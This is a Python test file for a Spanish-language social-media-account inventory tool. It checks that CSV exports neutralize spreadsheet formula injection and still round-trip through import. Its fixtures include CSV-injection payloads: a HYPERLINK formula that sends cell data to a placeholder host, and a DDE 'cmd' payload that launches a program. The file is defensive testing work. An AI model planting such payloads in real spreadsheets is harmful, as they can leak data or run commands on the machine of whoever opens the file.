"""Exports neutralize formulas (OWASP's CSV-injection rule) and still round-trip through ``importar``.

A text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is
written with a leading ``'`` so a spreadsheet shows it as text; ``importar``
takes exactly that ``'`` away again.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policy import spreadsheet
from policy.spreadsheet import FORMULA_TRIGGERS, neutralize, neutralize_row, restore
from store import open_store
from store import spreadsheet as inventory_db
from store.db import Store
from tests.conftest import NOW, make_runner

TODAY = NOW.date()

#: The payloads of the issue, one per trigger character (tab and CR are covered below: the store trims them).
PAYLOADS = {
    "=": '=HYPERLINK("http://ejemplo.invalid/?d="&A1,"clic")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)",
}


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), (cell, row)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-5", "'-5"),  # a text cell that looks like a negative number is still text
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("@INEMexico", "'@INEMexico"),
        ("\tcmd", "'\tcmd"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # an apostrophe of its own before a trigger: one more, so it survives
        ("''@x", "'''@x"),
        ("'texto", "'texto"),  # an apostrophe before anything else is left alone
        ("'", "'"),
        ("", ""),
        ("Comunicación Social", "Comunicación Social"),
        ("a=b", "a=b"),
        ("2026-03-12", "2026-03-12"),
        (" =1+1", " =1+1"),  # not a trigger (and the store trims leading spaces anyway)
    ],
)
def test_neutralize_and_restore(value: str, written: str):
    assert neutralize(value) == written
    assert restore(written) == value


def test_restore_leaves_what_the_export_never_writes():
    # A hand-made file: a lone apostrophe or one before ordinary text is data.
    assert restore("'hola") == "'hola"
    assert restore("'") == "'"
    assert restore("=1+1") == "=1+1"  # never written by the export; kept as the user typed it


def test_neutralize_row_keeps_numbers_numbers():
    assert neutralize_row([7, None, "-3", "=x", "ok", 0]) == [7, None, "'-3", "'=x", "ok", 0]


_EDGY = st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", "ñ", " ", '"', ",", ";", "\n"]))


@settings(max_examples=400, deadline=None, database=None)
@given(st.one_of(st.text(), _EDGY))
def test_neutralize_is_undone_by_restore_and_never_starts_a_formula(value: str):
    written = neutralize(value)
    assert restore(written) == value
    assert not written.startswith(FORMULA_TRIGGERS)
    assert written in (value, "'" + value)


# --- exportar → file → importar ---------------------------------------------------------------


def _populate(store: Store) -> None:
    """Accounts and people whose text fields start with every trigger the store can hold."""
    accounts = [
        ("x", "@INEMexico", PAYLOADS["="], PAYLOADS["+"]),
        ("facebook", "=cmd|' /C calc'!A0", PAYLOADS["-"], "-55 1234 5678"),
        ("tiktok", "+tres", PAYLOADS["@"], "+52 55 1234 5678"),
        ("instagram", "-cuatro", "'=ya traía apóstrofo", "''+dos apóstrofos"),
        ("youtube", "'=cinco", "'solo apóstrofo", "'"),
    ]
    for network, handle, area, phone in accounts:
        store.accounts.add(
            network=network,
            handle=handle,
            area=area,
            phone=phone,
            url=f'=HYPERLINK("https://{network}.com")',
            email=f"-{network}@ine.mx",
        )
    people = {
        "titular": ("@Ana Pérez", "=ana@ine.mx", "mando_medio"),
        "suplente": ("=Beto Ruiz", "+beto@ine.mx", "operativo"),
        "enlace": ("-Ceci Gómez", None, None),
        "coadministrador": ("'=Dani", "'=dani@ine.mx", "operativo"),
    }
    for index, acc in enumerate(store.accounts.list()):
        for role, (name, email, rank) in people.items():
            person = store.people.find(name) or store.people.add(name=name, email=email, rank=rank)
            store.assignments.assign(acc, person, role, TODAY.replace(day=1 + index), historical=True)
        extra = store.people.find("+Eli") or store.people.add(name="+Eli")
        store.assignments.assign(acc, extra, "coadministrador", TODAY.replace(day=1), historical=True)
    first = store.accounts.list()[0]
    store.rotations.record(first, NOW.replace(day=2), reason="prueba", historical=True)
    store.evaluations.record(first, TODAY.replace(day=3), note="prueba", historical=True)


def _snapshot(store: Store):
    accounts = {
        (a.network, a.handle): (
            a.url,
            a.area,
            a.email,
            a.phone,
            a.email_generic,
            a.status,
            a.verification,
            a.public,
            a.private_messages,
            a.opened_on,
        )
        for a in store.accounts.list()
    }
    people = {p.name: (p.email, p.rank) for p in store.people.list()}
    refs = {a.id: a.ref for a in store.accounts.list()}
    admins = {
        (refs[a.account_id], store.people.get(a.person_id).name, a.role, a.start)
        for a in store.assignments.all()
        if a.active_on(TODAY)
    }
    rotations = {refs[k]: v.date() for k, v in store.rotations.latest().items()}
    evaluations = {refs[k]: v for k, v in store.evaluations.latest().items()}
    return accounts, people, admins, rotations, evaluations


def test_every_trigger_round_trips_through_the_cli(cli, tmp_path: Path):
    assert cli("iniciar", "--perfil", "ine").code == 0
    source = open_store(cli.db, clock=lambda: NOW, author="pruebas")
    try:
        _populate(source)
        expected = _snapshot(source)
    finally:
        source.close()
    exported = tmp_path / "inventario.csv"
    result = cli("exportar", "--formato", "csv", "--salida", str(exported))
    assert result.code == 0, result.err
    text = exported.read_text("utf-8-sig")
    rows = _cells(text)
    assert len(rows) == 1 + 5
    _assert_no_formula(rows)
    for payload in PAYLOADS.values():
        assert f"'{payload}" in {cell for row in rows for cell in row}
    assert "''=ya traía apóstrofo" in {cell for row in rows for cell in row}
    assert cli("exportar").out.replace("\r\n", "\n") == text.replace("\r\n", "\n")  # the screen, the same

    fresh = make_runner(tmp_path / "nueva.db")
    assert fresh("iniciar", "--perfil", "ine").code == 0
    result = fresh("importar", str(exported))
    assert result.code == 0, result.err
    target = open_store(fresh.db, clock=lambda: NOW, author="pruebas")
    try:
        assert _snapshot(target) == expected
        assert _snapshot(target)[1]["'=Dani"] == ("'=dani@ine.mx", "operativo")
    finally:
        target.close()
    again = tmp_path / "otra-vez.csv"
    assert fresh("exportar", "--salida", str(again)).code == 0
    assert again.read_bytes() == exported.read_bytes()


def test_tab_and_carriage_return_cells_round_trip_through_the_file():
    # The store trims both, so no record starts with them; the file format still handles them.
    row = {column: "" for column in spreadsheet.COLUMNS}
    row.update({"red": "x", "usuario": "@a", "area": "\tcmd", "telefono": "\r=1+1"})
    text = spreadsheet.to_csv([row])
    _assert_no_formula(_cells(text))
    [spec] = spreadsheet.parse(text, TODAY)
    # Only the leading whitespace the export protected survives the importer's trimming.
    assert spec.account["area"] == "\tcmd"
    assert spec.account["phone"] == "\r=1+1"


def test_a_hand_made_file_keeps_its_apostrophes(store: Store):
    text = "red,usuario,area,telefono\nx,@a,'Comunicación,'=1+1\n"
    inventory_db.import_rows(store, spreadsheet.parse(text, TODAY), TODAY)
    acc = store.accounts.resolve("x/@a")
    assert acc.area == "'Comunicación"
    assert acc.phone == "=1+1"  # Excel's own «'» text mark comes off, as after an export


# --- bitacora exportar ------------------------------------------------------------------------

TEXTS = [*PAYLOADS.values(), "'=ya con apóstrofo", "hola\r=1+1", "líneas\nnuevas\n=2+2", 'normal, con «comillas» "']


def test_bitacora_csv_export_neutralizes_and_matches_the_json_export(cli, tmp_path: Path):
    assert cli("iniciar", "--perfil", "ine").code == 0
    assert cli("cuentas", "agregar", "--red", "x", "--usuario", "@INEMexico").code == 0
    store = open_store(cli.db, clock=lambda: NOW, author="pruebas")
    try:
        for n, text in enumerate(TEXTS):
            store.bitacora.append(
                kind="nota",
                text=text,
                account=1 if n % 2 else None,
                refs=['=HYPERLINK("x")', "-1"] if n == 0 else (),
                author=f"=Autor {n}",
            )
    finally:
        store.close()
    as_json = tmp_path / "bitacora.json"
    as_csv = tmp_path / "bitacora.csv"
    assert cli("bitacora", "exportar", "--formato", "json", "--salida", str(as_json)).code == 0
    result = cli("bitacora", "exportar", "--formato", "csv", "--salida", str(as_csv))
    assert result.code == 0, result.err
    entries = json.loads(as_json.read_text("utf-8"))["entries"]
    # JSON is data, not a spreadsheet: its values stay exactly as stored.
    assert [e["text"] for e in entries if e["author"].startswith("=Autor")] == TEXTS
    raw = as_csv.read_bytes().decode("utf-8-sig")  # the bytes: a «\r» inside a cell is data
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == 1 + len(entries)  # the lone «\r» did not split a row
    _assert_no_formula(rows)
    header = rows[0]
    for entry, row in zip(entries, rows[1:], strict=True):
        cells = {name: restore(cell) for name, cell in zip(header, row, strict=True)}
        assert cells["text"] == entry["text"]
        assert cells["author"] == entry["author"]
        assert cells["id"] == str(entry["id"])  # ids are numbers, never marked
        assert cells["hash"] == entry["hash"] and cells["prev_hash"] == entry["prev_hash"]
        refs = json.dumps(entry["refs"], ensure_ascii=False, separators=(",", ":")) if entry["refs"] else ""
        assert cells["refs"] == refs
    # The screen gets the same cells.
    screen = list(csv.reader(io.StringIO(cli("bitacora", "exportar", "--formato", "csv").out)))
    _assert_no_formula(screen)
    assert len(screen) == len(rows)
